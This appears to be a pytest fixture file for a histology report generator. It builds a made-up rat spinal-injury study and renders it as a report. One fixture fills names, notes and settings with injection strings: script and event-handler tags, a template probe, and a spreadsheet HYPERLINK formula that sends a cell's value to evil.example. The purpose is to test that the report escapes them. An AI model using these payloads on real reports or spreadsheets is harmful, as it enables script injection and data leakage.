"""A made-up study for the report: four groups of five animals, one of them without a value, two sections that failed."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from typing import Any

import numpy as np
import pandas as pd
import pytest

from sevhisto.report import ReportInputs, SectionCard, batch_contrast, overlay_image, render_report, tissue_histograms
from sevhisto.schema import ANIMALS, COMPARISONS, PROFILES, RELATIONS, STATUS
from sevhisto.types import N_DISTANCE, N_INTENSITY, SectionRecord, encode_thumbnail

GROUPS = ("vehicle", "daily x3", "3-day infusion", "6-day infusion")
MARKERS = ("DAPI", "GFAP", "CD68", "fibronectin")
ROLES = dict(zip(MARKERS, ("nuclei", "landmark", "macrophage", "ecm"), strict=True))
VOLUME = "ECM_core_fibronectin_positive_volume_mm3"
AUC = "BBB_auc_score_days"
HOSTILE = "<script>alert(1)</script>"
NASTY = (
    '=HYPERLINK("http://evil.example/?"&A1)',
    '"><img src=x onerror=alert(1)>',
    "{{ 7*7 }}",
    r"$\frac{",
    "_hidden",
    "鼠 №5",
    "a&b;<b>",
    "'--><svg/onload=x>",
)


def build_record(seed: int = 0, brightfield: bool = False, core: bool = True) -> SectionRecord:
    """A round section with an off-centre core, a cavity in it and a masked corner, 4 um per overview pixel."""
    rng = np.random.default_rng(seed)
    h, w, um = 520, 640, 4.0
    y, x = np.mgrid[0:h, 0:w].astype(np.float32)
    angle = np.arctan2(y - 240, x - 360)
    tissue = ((x - 320) / 290) ** 2 + ((y - 260) / 235) ** 2 < 1
    reach = 95 + 14 * np.sin(3 * angle + seed) + 8 * np.cos(5 * angle)
    radius = np.hypot(y - 240, x - 360)
    inside = radius < reach
    cavity = np.hypot((y - 230) / 0.8, x - 350) < 34
    masked = (x - 120) ** 2 + (y - 330) ** 2 < 45**2
    distance = np.where(core, (radius - reach) * um, 32767)
    noise = rng.gamma(2.0, 1.0, (4, h, w)).astype(np.float32)
    spots = rng.random((4, h, w)) > 0.985
    levels = (
        60 * noise[0] * spots[0] * 6 + 8,
        120 * np.exp(-(((radius - reach - 18) / 25) ** 2)) * noise[1] / 2 + 25,
        200 * np.exp(-((np.clip(radius - reach, 0, None) / 40) ** 2)) * spots[2] * noise[2] + 6,
        150 * inside * (np.sin(x / 5 + y / 9) > 0.3) * noise[3] / 2 + 5,
    )
    stack = np.stack([v * tissue * ~cavity for v in levels], axis=-1).astype(np.float32)
    masks: dict[str, Any] = {"tissue": tissue, "cavity": cavity & core, "masked": masked, "core": inside & core}
    masks = {k: v.astype(np.uint8) for k, v in masks.items()}
    masks["distance"] = np.rint(distance).astype(np.int16)
    masks["thumbnail"] = encode_thumbnail(stack)
    if brightfield:
        grey = np.where(tissue & ~cavity, 205 - 60 * inside, 242)[..., None] + rng.normal(0, 6, (h, w, 3))
        masks["thumbnail_rgb"] = np.clip(grey + np.array([8, -4, -20]) * inside[..., None], 0, 255).astype(np.uint8)
    counts = np.zeros((4, 2, N_DISTANCE, N_INTENSITY), np.int64)
    pixels = np.zeros((2, N_DISTANCE), np.int64)
    meta = {"kind": "brightfield" if brightfield else "fluorescence", "um_per_px": 0.65, "overview_um": um, "flags": []}
    return SectionRecord(meta, MARKERS, counts, counts.copy(), pixels, pixels.copy(), masks=masks)


def build_inputs(blinded: bool = False, compared: bool = True, pictures: bool = True, names: dict[str, str] | None = None) -> ReportInputs:
    rng = np.random.default_rng(7)
    code = (names or {}).get
    group_names = [code(g, g) for g in (("group A", "group B", "group C", "group D") if blinded else GROUPS)]
    animals = [code(f"R{i + 1:02d}", f"R{i + 1:02d}") for i in range(20)]
    groups = pd.Series([group_names[i // 5] for i in range(20)], index=animals, name="group")
    effect = np.repeat([0.100, 0.078, 0.082, 0.061], 5)
    volume = effect * rng.lognormal(0, 0.16, 20)
    auc = 430 - 1800 * volume + rng.normal(0, 25, 20) + np.repeat([0, 10, 20, 30], 5)
    volume[8] = np.nan
    wide = pd.DataFrame({"animal": animals, VOLUME: volume, AUC: auc, "A_core_CD68_fraction_pct": rng.normal(34, 6, 20)})
    records = [build_record(s, brightfield=s == 2) for s in range(3)] if pictures else []
    contrast = batch_contrast(map(tissue_histograms, records))
    cards = [
        SectionCard(
            animals[i],
            f"s{i + 3:02d}",
            "A",
            "sample",
            "1",
            float(i * 500),
            "flagged",
            "review" if i == 1 else "keep",
            reasons="blur" if i == 1 else "",
            flags=f,
            core_um2=1.2e5 * i,
            picture=overlay_image(r, contrast, [0, 250, 500, 1000], ROLES),
        )
        for i, (r, f) in enumerate(zip(records, ("contour_unreviewed", "contour_drawn;saturated", "stain_vectors_assumed"), strict=False))
    ]
    cards += [SectionCard(animals[4], "s03", "B", "sample", "1", 2000.0, "failed", reason="no pixel size in the file")] if pictures else []
    return ReportInputs(
        study_name="sEV delivery in rat contusion (made up)",
        blinded=blinded,
        status=_status(animals),
        animals=_animals(animals, volume),
        wide=wide,
        groups=groups,
        comparisons=_comparisons(group_names) if compared else None,
        relations=_relations() if compared else None,
        motor=_motor(animals, auc),
        profiles=_profiles(animals, effect),
        thresholds=_thresholds(),
        run={
            "version": "0.2.0",
            "started": "2026-11-02T09:14:00Z",
            "inputs": {"slides.csv": "9f" * 32, "n_files": 288},
            "packages": {"numpy": "2.3.4"},
        },
        cards=cards,
        zones_um=(0, 250, 500, 1000),
        banner_flags=["not_unblinded"] if blinded else ["changed_after_unblinding"],
        notes=[
            "Injection and infusion differ in surgery as well: no injection-route vehicle was kept.",
            "Batch 2 holds no vehicle animal.",
        ],
        settings='[study]\nname = "sEV delivery"\nsection_spacing_um = 500.0\n',
    )


def _status(animals: list[str]) -> pd.DataFrame:
    rows = [
        (a, f"s{s:02d}", p, f"slide_{i:02d}.ome.tif", "flagged", "contour_unreviewed", "", 0.9)
        for i, a in enumerate(animals)
        for s in range(1, 7)
        for p in "AB"
    ]
    rows[5] = (*rows[5][:4], "failed", "", "slide_00.ome.tif: no pixel size in the file; give um_per_px in slides.csv", np.nan)
    rows[40] = (*rows[40][:4], "failed", "", "the file ends after 2 of 5 channels; copy it again from the microscope", np.nan)
    rows[77] = (*rows[77][:4], "excluded", "edited_by_hand", "torn through the core", 0.9)
    rows[78] = (*rows[78][:4], "ok", "contour_drawn", "", np.nan)
    return STATUS.conform(
        pd.DataFrame(rows, columns=[n for n in STATUS.names if n not in ("verdict", "reasons")]).assign(verdict="", reasons="")
    )


def _animals(animals: list[str], volume: np.ndarray) -> pd.DataFrame:
    rows = [
        (a, "ECM", "core", "fibronectin", "positive_volume_mm3", v, "mm3", 6 if v == v else 2, 6, "" if v == v else "too_few_sections")
        for a, v in zip(animals, volume, strict=True)
    ]
    return ANIMALS.conform(pd.DataFrame(rows, columns=ANIMALS.names))


def comparison(endpoint: str = VOLUME, **changes: Any) -> dict[str, Any]:
    row: dict[str, Any] = dict(  # noqa: C408
        endpoint=endpoint, contrast="duration", group_a="6-day infusion", group_b="3-day infusion", n_a=5, n_b=5, role="primary",
        estimate=-0.0123, ci_low=-0.0212, ci_high=-0.0031, hedges_g=-1.3, p=0.0317, p_adjusted=0.0634, p_min=0.0079,
        unit="mm3", ratio=0.78, ratio_low=0.64, ratio_high=0.95, method="t interval; exact permutation p", robustness="robust", flags="",
    )  # fmt: skip
    return {**row, **changes}


def _comparisons(g: list[str]) -> pd.DataFrame:
    rows = []
    for endpoint, role, scale in ((VOLUME, "primary", 1.0), (AUC, "primary", -2000.0), ("A_core_CD68_fraction_pct", "secondary", 200.0)):
        flip = scale < 0
        for name, a, b, est, half, p, flags in (
            ("mode", g[2], g[1], 0.004, 0.015, 0.56, ""),
            ("duration", g[3], g[2], -0.021, 0.016, 0.0159, "contour_unreviewed"),
            ("any sEV", "+".join(g[1:]), g[0], -0.026, 0.012, 0.0006, ""),
            ("6-day against daily", g[3], g[1], -0.017, 0.016, 0.048, "exploratory"),
        ):
            low, high = sorted(((est - half) * scale, (est + half) * scale))
            ratio = {} if flip else {"ratio": 1 + est * 10, "ratio_low": 1 + (est - half) * 10, "ratio_high": 1 + (est + half) * 10}
            none = {"ratio": np.nan, "ratio_low": np.nan, "ratio_high": np.nan}
            extra = {
                "n_a": 15 if "+" in a else 5,
                "p": p,
                "p_adjusted": min(3 * p, 1),
                "group_a": a,
                "group_b": b,
                "flags": flags,
                "role": role,
            }
            rows.append(
                comparison(
                    endpoint, contrast=name, estimate=est * scale, ci_low=low, ci_high=high, hedges_g=est * 60, **extra, **(ratio or none)
                )
            )
    return COMPARISONS.conform(pd.DataFrame(rows))


def relation(**changes: Any) -> dict[str, Any]:
    row: dict[str, Any] = dict(  # noqa: C408
        ecm=VOLUME, motor=AUC, model="within_arm", n=19, estimate=-21.4, ci_low=-38.0, ci_high=-4.8, p=0.0142, flags="", correlation=-0.58,
        covariates="arm",
    )  # fmt: skip
    return {**row, **changes}


def _relations() -> pd.DataFrame:
    rows = [
        relation(
            model="pooled", estimate=-31.0, ci_low=-44.0, ci_high=-18.0, p=0.0001, flags="exploratory;pooled_across_groups", covariates=""
        ),
        relation(),
        relation(
            model="adjusted",
            estimate=-16.2,
            ci_low=-37.1,
            ci_high=4.7,
            p=0.121,
            covariates="arm;A_core_tissue_zone_volume_mm3;BBB_day1_score;force_kdyn",
        ),
    ]
    return RELATIONS.conform(pd.DataFrame(rows))


def _motor(animals: list[str], auc: np.ndarray) -> pd.DataFrame:
    rng = np.random.default_rng(3)
    days = [1, 3, 7, 14, 21, 28, 35, 42]
    rows = [
        (a, d, float(np.clip(np.rint(v / 26 * (1 - np.exp(-d / 7)) + rng.normal(0, 0.8)), 0, 21)))
        for a, v in zip(animals, auc, strict=True)
        for d in days
    ]
    return pd.DataFrame(rows, columns=["animal", "day", "score"])


def _profiles(animals: list[str], effect: np.ndarray) -> pd.DataFrame:
    rng = np.random.default_rng(5)
    rows = []
    for marker, top in (("fibronectin", 300), ("CD68", 420)):
        for a, e in zip(animals, effect, strict=True):
            shape = rng.lognormal(0, 0.2)
            for x in range(-300, 2000, 10):
                pct = top * e * shape * (1 / (1 + np.exp(x / 90))) + 1 + rng.random()
                rows.append((a, "A", marker, "border", x, 4000.0, 40 * pct, 1.0))
    return PROFILES.conform(pd.DataFrame(rows, columns=PROFILES.names[:8]))


def _thresholds() -> pd.DataFrame:
    rows = [("A", b, m, 41.375 + 3 * i, s, n) for b, s, n in (("1", "no_primary", 3), ("2", "batch", 0)) for i, m in enumerate(MARKERS)]
    return pd.DataFrame(rows, columns=["panel", "batch", "marker", "threshold", "source", "n_controls"])


def hostile() -> ReportInputs:
    plain = ["R01", "R02", "vehicle", "daily x3", "R03", "R04", "6-day infusion", "R06"]
    inputs = build_inputs(names=dict(zip(plain, NASTY, strict=True)) | {"R05": HOSTILE})
    status = inputs.status.copy()
    status.loc[5, ["reason", "file"]] = [HOSTILE, NASTY[0]]
    cards = [
        c._replace(animal=HOSTILE, section=NASTY[1], batch=NASTY[4], reasons=NASTY[0], flags=f"{HOSTILE};saturated") for c in inputs.cards
    ]
    return replace(
        inputs,
        study_name=HOSTILE,
        status=status,
        cards=cards,
        notes=[HOSTILE, *NASTY],
        settings=f"</pre>{HOSTILE}",
        run={HOSTILE: [NASTY[0]], "x": {"y": NASTY[1]}},
        motor_label=HOSTILE,
    )


@pytest.fixture(scope="session")
def nasty() -> tuple[str, ...]:
    return (HOSTILE, *NASTY)


@pytest.fixture(scope="session")
def clean() -> str:
    return render_report(build_inputs())


@pytest.fixture(scope="session")
def attacked() -> str:
    """The same report where every name is an attempt to run code."""
    return render_report(hostile())


@pytest.fixture(scope="session")
def make_record() -> Callable[..., SectionRecord]:
    return build_record


@pytest.fixture(scope="session")
def make_inputs() -> Callable[..., ReportInputs]:
    return build_inputs


@pytest.fixture(scope="session")
def make_comparison() -> Callable[..., dict[str, Any]]:
    return comparison


@pytest.fixture(scope="session")
def make_relation() -> Callable[..., dict[str, Any]]:
    return relation
